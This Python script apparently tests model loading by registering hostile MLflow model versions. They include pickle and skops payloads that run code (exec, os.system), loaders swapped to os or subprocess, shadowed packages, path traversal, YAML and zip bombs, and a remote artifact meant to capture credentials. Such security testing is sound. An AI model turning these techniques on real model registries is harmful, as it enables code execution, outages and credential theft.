"""Registers models that try to run code where they are loaded; run by the model runtime's Python against MLFLOW_TRACKING_URI.

Each prints OWNED. Argument: the address of a server that is not MLflow's. Prints what each version tries: name -> version.
"""

import json
import os
import pickle
import sys
import tempfile
import zipfile
from pathlib import Path

import mlflow
import pandas
import skops.io
import yaml
from mlflow.models import infer_signature
from sklearn.linear_model import LinearRegression
from sklearn.preprocessing import FunctionTransformer

NAME = "hostile"
ROWS = pandas.DataFrame({"a": [0.0, 1.0, 2.0]})
CODE = "print('OWNED', flush=True)\n"
LOADER = CODE + "def _load_pyfunc(path, *rest): return None\n"


class Owner:
    """Unpickling this runs code."""

    def __reduce__(self):
        return exec, (CODE,)


def loader(name, **changes):
    """A change of MLmodel: another loader_module, and other keys beside it."""

    def change(described, folder):
        del folder
        described["flavors"]["python_function"].update({"loader_module": name, **changes})

    return change


def with_code(described, folder):
    """Code that takes the place of a module of MLflow's, which the path of the model's code comes before."""
    (folder / "code" / "sklearn").mkdir(parents=True)
    (folder / "code" / "sklearn" / "__init__.py").write_text(CODE)
    described["flavors"]["python_function"]["code"] = "code"


def own_loader(described, folder):
    with_code(described, folder)
    (folder / "code" / "own_loader.py").write_text(LOADER)
    described["flavors"]["python_function"]["loader_module"] = "own_loader"


def pickled(kind):
    def change(described, folder):
        (folder / "model.pkl").write_bytes(pickle.dumps(Owner()))
        described["flavors"]["sklearn"].update({"serialization_format": kind, "pickled_model": "model.pkl"})
        described["flavors"]["python_function"]["model_path"] = "model.pkl"

    return change


def without_flavor(described, folder):
    """MLflow then takes the file for a pickle."""
    pickled("skops")(described, folder)
    del described["flavors"]["sklearn"]


def second_mlmodel(described, folder):
    """MLflow reads the format in the MLmodel beside the data."""
    (folder / "inner").mkdir()
    (folder / "inner" / "model.pkl").write_bytes(pickle.dumps(Owner()))
    inner = {**described, "flavors": {**described["flavors"], "sklearn": {"serialization_format": "pickle"}}}
    (folder / "inner" / "MLmodel").write_text(yaml.safe_dump(inner))
    described["flavors"]["python_function"]["data"] = "inner/model.pkl"


def trusting_itself(described, folder):
    """A function that is called at each prediction; the model's own list trusts it."""
    skops.io.dump(FunctionTransformer(func=os.system), folder / "model.skops")
    types = skops.io.get_untrusted_types(file=folder / "model.skops")
    assert types
    described["flavors"]["sklearn"]["skops_trusted_types"] = types
    described["flavors"]["python_function"]["predict_fn"] = "predict"


def inflated(described, folder):
    del described
    with zipfile.ZipFile(folder / "model.skops", "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("schema.json", b" " * 200_000_000)


def bomb(described, folder):
    del described
    levels = ["a0: &a0 [x, x, x, x, x, x, x, x, x]"] + [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]" for n in range(1, 12)]
    (folder / "MLmodel").write_text("\n".join(levels))


def huge(described, folder):
    del described
    (folder / "MLmodel").write_text("flavors: {}\n#" + "x" * 3_000_000)


def example_of_the_host(described, folder):
    del folder
    described["saved_input_example_info"]["artifact_path"] = "../../../../etc/hostname"


CHANGES = {
    "loader os": loader("os"),
    "loader subprocess": loader("subprocess"),
    "Python model": loader("mlflow.pyfunc.model", python_model="model.pkl"),
    "code": with_code,
    "own loader": own_loader,
    "pickle": pickled("pickle"),
    "cloudpickle": pickled("cloudpickle"),
    "no flavor": without_flavor,
    "second MLmodel": second_mlmodel,
    "trusting itself": trusting_itself,
    "path upwards": loader("mlflow.sklearn", model_path="../../../../etc/hostname"),
    "absolute path": loader("mlflow.sklearn", data="/etc/hostname"),
    "method": loader("mlflow.sklearn", predict_fn="__reduce__"),
    "example of the host": example_of_the_host,
    "bomb": bomb,
    "huge": huge,
    "inflated": inflated,
}


def main():
    mlflow.set_experiment("hostile")
    client, versions = mlflow.MlflowClient(), {}
    client.create_registered_model(NAME)
    model = LinearRegression().fit(ROWS, ROWS["a"] + 1000)
    signature = infer_signature(ROWS, pandas.DataFrame({"y": [0.0]}))
    with tempfile.TemporaryDirectory() as temporary, mlflow.start_run() as run:
        for number, (what, change) in enumerate({"good": None, **CHANGES}.items(), 1):
            folder = Path(temporary) / str(number)
            mlflow.sklearn.save_model(model, folder, signature=signature, input_example=ROWS.head(1), pip_requirements=["mlflow-skinny"])
            if change:
                described = yaml.safe_load((folder / "MLmodel").read_text())
                before = (folder / "MLmodel").read_bytes()
                change(described, folder)
                if (folder / "MLmodel").read_bytes() == before:
                    (folder / "MLmodel").write_text(yaml.safe_dump(described))
            mlflow.log_artifacts(str(folder), str(number))
            versions[what] = client.create_model_version(NAME, f"{run.info.artifact_uri}/{number}", run.info.run_id, await_creation_for=0).version
        # Whoever serves these files gets what the client logs in to MLflow with.
        versions["elsewhere"] = client.create_model_version(NAME, f"http://{sys.argv[1]}/model", run.info.run_id, await_creation_for=0).version
        mlflow.log_metrics({"mape": float("inf"), "nothing": float("nan"), "rmse": 1.5})
    client.set_registered_model_alias(NAME, "champion", "1")
    print(json.dumps(versions))


if __name__ == "__main__":
    main()
